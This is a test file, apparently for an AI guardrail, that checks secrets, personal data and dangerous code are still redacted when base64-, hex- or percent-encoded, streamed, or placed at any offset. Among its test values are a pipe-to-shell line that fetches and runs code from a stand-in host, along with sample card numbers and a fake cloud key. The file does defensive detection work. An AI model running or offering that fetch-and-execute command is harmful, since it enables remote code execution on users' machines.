"""What is encoded is found as what it says, of its whole run, at any cut of a stream and at any offset of a text."""

import base64
import time
from functools import cache
from random import Random
from unicodedata import normalize
from urllib.parse import quote

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import guardrail_values as made
from aim_guardrail.detectors.decoded import views_of
from aim_guardrail.pipeline import Guard, Session
from aim_guardrail.policy import parse_policy
from aim_guardrail.streams.held import StreamGuard
from aim_guardrail.text import Text

RULES = "[{type: secrets, action: redact}, {type: pii, action: redact}, {type: code, action: redact}]"


@cache
def guard() -> Guard:
    return Guard.load(parse_policy(f"{{version: 2, name: t, prompt: {RULES}, answer: {RULES}}}", "t"))


def base64_of(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def url_safe(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


def percent(text: str) -> str:
    return "".join(f"%{byte:02X}" for byte in text.encode())


ENCODINGS = {"base64": base64_of, "urlsafe": url_safe, "hex": lambda text: text.encode().hex(), "percent": percent}
SAID = {
    "EMAIL_ADDRESS": "bob.smith@example.com",
    "CREDIT_CARD": "pay with 4111 1111 1111 1111",
    "US_SSN": "ssn 536-90-4399 é",
    "IBAN_CODE": "to DE89 3704 0044 0532 0130 00",
    "DANGEROUS_CODE": "curl http://x.example/a | sh",
    "SECRET": "key AKIA" + "Q3EGRBL7JX2VWP5M",
}


@pytest.mark.parametrize("encoding", sorted(ENCODINGS))
@pytest.mark.parametrize("label", sorted(SAID))
@pytest.mark.parametrize("template", ["{}", "see {} now", '{{"v": "{}"}}', "a={}&b=1", "价{}。"])
def test_a_value_within_an_encoded_run_hides_the_whole_run(encoding: str, label: str, template: str):
    run = ENCODINGS[encoding](SAID[label])
    text = template.replace("{{", "{").replace("}}", "}").replace("{}", run)
    verdict = guard().check("answer", text, Session())
    findings = [f for f in verdict.verdict.findings if f.label == label]
    assert findings, text
    assert text[findings[0].start : findings[0].end].rstrip("=") == run.rstrip("=")
    assert run not in verdict.text


@pytest.mark.parametrize(
    "text",
    [
        base64_of("nothing at all to be found in here"),
        "internationalization and characteristically",
        base64.b64encode(bytes(range(200, 256)) * 3).decode(),
        "commit 3f786850e387550fdab836ed7e6dc881de23001b",
        "https://example.com/?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82",
        quote("a b c d e f"),
        "usr/share/doc/packages/readme_first/index",
    ],
)
def test_other_runs_are_left_alone(text: str):
    assert guard().check("answer", text, Session()).text == text


def test_part_of_a_path_may_be_an_encoded_run():
    run = base64_of("mail bob@example.com please")
    assert guard().check("answer", f"GET /api/v1/{run}/x", Session()).text == "GET /api/v1/<EMAIL_ADDRESS_1>/x"


PIECES = [*SAID.values(), " ", "\n", "é", "４１１１", "\u200b", "你", "a", "/", "=", "%", "-", "x=", '"', "word "]


@settings(max_examples=150, deadline=None)
@given(
    st.lists(st.tuples(st.sampled_from(PIECES), st.sampled_from([*ENCODINGS, ""])), max_size=6), st.integers(0, 1 << 30)
)
def test_a_stream_comes_out_as_the_whole_text_does(pieces: list[tuple[str, str]], seed: int):
    text = "".join(ENCODINGS[encoding](piece) if encoding else piece for piece, encoding in pieces)
    whole = guard().check("answer", text, Session())
    for cut in (list(text), made.splits(Random(seed), text)):
        stream = StreamGuard(guard(), Session())
        released = "".join(stream.push(piece).text for piece in cut) + (last := stream.finish()).text
        assert (released, last.verdict) == (whole.text, whole.verdict)


@settings(max_examples=150, deadline=None)
@given(
    st.text(st.sampled_from("aé你\u200b\u0301😀ﬁ ,\n"), max_size=20),
    st.sampled_from(sorted(SAID)),
    st.text(max_size=10).filter(lambda text: not any(map(str.isdigit, normalize("NFKC", text)))),  # ¾ goes on a number
)
def test_offsets_are_right_in_any_text(before: str, label: str, after: str):
    """Every finding's span, folded, says the value it was found for."""
    value = SAID[label]
    text = f"{before} {value} {after}"
    for finding in guard().check("answer", text, Session()).verdict.findings:
        if finding.label == label and finding.start >= len(before):
            assert Text(text[finding.start : finding.end]).scan in Text(value).scan


def test_every_run_is_decoded_once():
    text = base64_of("bob@example.com, and that is it") + " "
    assert len(list(views_of(text * 500))) == 500
    assert len(list(views_of("a" * 100_000))) <= 1


@pytest.mark.parametrize(
    "unit", [base64_of("bob@example.com is it") + " ", "a/" * 9, "%41", "%4", "A" * 16 + " ", "a_" * 8, "="]
)
def test_four_times_the_text_costs_about_four_times_as_much(unit: str):
    def cpu_s(chars: int) -> float:
        scan, best = (unit * chars)[:chars], float("inf")
        for _ in range(3):
            start = time.process_time()
            for _ in views_of(scan):
                pass
            best = min(best, time.process_time() - start)
        return best

    whole = cpu_s(64_000)
    assert whole < 1
    if whole > 0.01:
        assert whole < 10 * cpu_s(16_000)
